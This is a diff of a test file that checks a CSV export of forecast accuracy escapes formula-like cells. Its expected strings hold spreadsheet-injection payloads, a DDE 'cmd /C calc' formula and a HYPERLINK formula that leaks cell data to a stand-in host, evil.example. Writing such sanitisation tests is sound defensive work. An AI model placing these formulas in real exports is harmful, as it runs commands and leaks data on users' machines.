@@ -56,7 +56,7 @@ describe(`forecast-accuracy.csv neutralises formulas (${TEST_BACKEND})`, () => {
     assert.equal(records[0].split(',')[0], 'gameId');
     assert.ok(records.length > 1, body);
     // Every formula-like text cell is written with a leading quote; the CR and tab ones quoted.
-    assert.ok(body.includes(`'=cmd|' /C calc'!A0#1,'=cmd|' /C calc'!A0,2025-03-01,`), body);
+    assert.ok(body.includes(`g0,'=cmd|' /C calc'!A0,2025-03-01,`), body);
     assert.ok(body.includes(`'=1+1,'@B,`), body);
     assert.ok(body.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`), body);
     for (const id of ["'+p", "'-p", "'@p", `"'\tT","'\rR"`]) {
